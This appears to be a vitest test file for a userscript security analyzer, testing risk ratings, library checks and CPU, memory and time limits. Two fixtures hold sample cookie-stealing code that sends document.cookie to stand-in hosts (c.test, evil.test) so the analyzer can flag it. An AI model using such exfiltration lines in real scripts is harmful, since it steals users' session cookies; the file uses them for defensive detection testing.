import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { FULL_CHECK_STEPS } from "@scriptorium/script-analyzer/step-budgets";
import { describe, expect, test } from "vitest";
import { fitResult } from "../../functions/_shared/rating/fit-result.ts";
import { ENDLESS, LONG } from "./large-scripts.test-support.ts";
import { FULL_CHECK_LIMITS, runFullCheck } from "./run-full-check.ts";

const { signal } = new AbortController();
const noResult = (reason: string) => ({ ok: false, error: { code: "no_result", message: reason } });

test("a script is rated as this process would rate it with as many steps", async () => {
	const script = { code: `${LONG}fetch("https://c.test/" + document.cookie);`, title: "Long", libraries: [] };
	const result = fitResult(analyzeScript(script, { steps: FULL_CHECK_STEPS }));
	expect(result.vulnerabilities.map(({ type }) => type)).toEqual(["cookie-exfiltration"]);
	expect(await runFullCheck(script, { signal })).toEqual({ ok: true, value: result });
});

test("a script is rated with its libraries", async () => {
	const address = "https://cdn.test/tools.js";
	const code = `// ==UserScript==\n// @name a\n// @match https://a.test/*\n// @require ${address}\n// ==/UserScript==\nkeep(document.cookie);`;
	const text = "function keep(text) { fetch('https://evil.test/' + text); }";
	const rated = await runFullCheck({ code, title: "", libraries: [{ address, text }] }, { signal });
	expect(rated).toMatchObject({ value: { risk_level: "red", capabilities: { libraries: [{ state: "checked" }] } } });
});

test("a script that cannot be read has no result: the report of the first check may know more", async () => {
	expect(await runFullCheck({ code: "this is no JavaScript", title: "", libraries: [] }, { signal })).toMatchObject({
		ok: false,
	});
});

describe("a script that uses up what its process has is ended", () => {
	const endless = { code: ENDLESS, title: "Endless", libraries: [] };
	test.skipIf(process.platform === "win32")("by its processor time", async () => {
		// Enough memory for what is left to collect while other programs use the processor.
		const limits = { ...FULL_CHECK_LIMITS, cpuSeconds: 1, memoryMb: 4_000 };
		expect(await runFullCheck(endless, { signal, limits })).toEqual(
			noResult("It took more than 1 s of processor time."),
		);
	});

	test("by its memory", async () => {
		const limits = { ...FULL_CHECK_LIMITS, memoryMb: 90 };
		expect(await runFullCheck(endless, { signal, limits })).toEqual(noResult("It used more than 90 MB."));
	});

	test("by the clock", async () => {
		const limits = { ...FULL_CHECK_LIMITS, wallSeconds: 1 };
		expect(await runFullCheck(endless, { signal, limits })).toEqual(noResult("It took more than 1 s."));
	});

	test("and at once when the worker stops", async () => {
		const stopping = new AbortController();
		const run = runFullCheck(endless, { signal: stopping.signal });
		stopping.abort();
		expect(await run).toEqual(noResult("It was called off."));
	});
});
